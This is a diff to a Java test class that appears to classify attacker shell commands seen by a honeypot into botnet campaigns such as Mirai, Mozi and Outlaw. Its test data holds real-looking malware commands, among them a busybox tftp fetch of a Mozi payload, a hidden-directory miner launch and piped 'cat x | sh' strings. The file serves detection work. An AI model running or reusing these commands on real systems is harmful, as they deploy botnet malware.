@@ -47,6 +47,8 @@ class CampaignsTest {
                 "/bin/busybox FGZNH                      ! mirai",
                 "cd /tmp; /bin/busybox mirai             ! mirai",
                 "/bin/busybox corona                     ! mirai",
+                "cd /tmp/.X25-unix/.rsync/c; nohup ./tsm -t 150 & ! outlaw-mdrfckr",
+                "busybox tftp -g -l x -r Mozi.a 192.0.2.3 ! mozi",
             })
     void namesKnownCampaigns(String command, String campaign) {
         Playbook playbook = of(command);
@@ -88,6 +90,7 @@ class CampaignsTest {
                 "pkill -9 kdevtmpfsi; killall kinsing",
                 "rm -rf /tmp/kinsing* /tmp/.X25-unix",
                 "echo kinsing",
+                "vi /etc/cron.hourly/gcc.sh",
                 "which redtail; ls /tmp/.X25-unix",
                 "/bin/busybox TOUCH",
                 "busybox wget",
@@ -148,6 +151,27 @@ class CampaignsTest {
         assertThat(of(client("SSH-2.0-HELLOWORLD", null)).family()).isEqualTo("rapperbot");
         assertThat(of(client("'SSH-2.0-HELLOWORLD'", null)).family()).isEqualTo("rapperbot");
         assertThat(all(of(client("SSH-2.0-HELLOWORLD2", null)))).isEmpty();
+    }
+
+    @Test
+    void standsLinesThatHoldEveryWordOfTheMarks() {
+        String words = String.join(
+                " ",
+                CampaignSignatures.standard()
+                        .text()
+                        .lines()
+                        .skip(1)
+                        .map(row -> row.split("\t", -1)[4].replace("|", " "))
+                        .toList());
+        String[] hostile = {
+            (words + "; ").repeat(60),
+            ("sudo " + words + " ").repeat(60),
+            ("tar " + "a".repeat(500) + " ;cat x | sh; ").repeat(200) + words,
+            "/system scheduler add " + "on-event=/tool fetch ".repeat(4_000) + words,
+            ("$(" + words).repeat(40),
+        };
+
+        assertThat(of(hostile).lines()).isEqualTo(hostile.length);
     }
 
     @Test
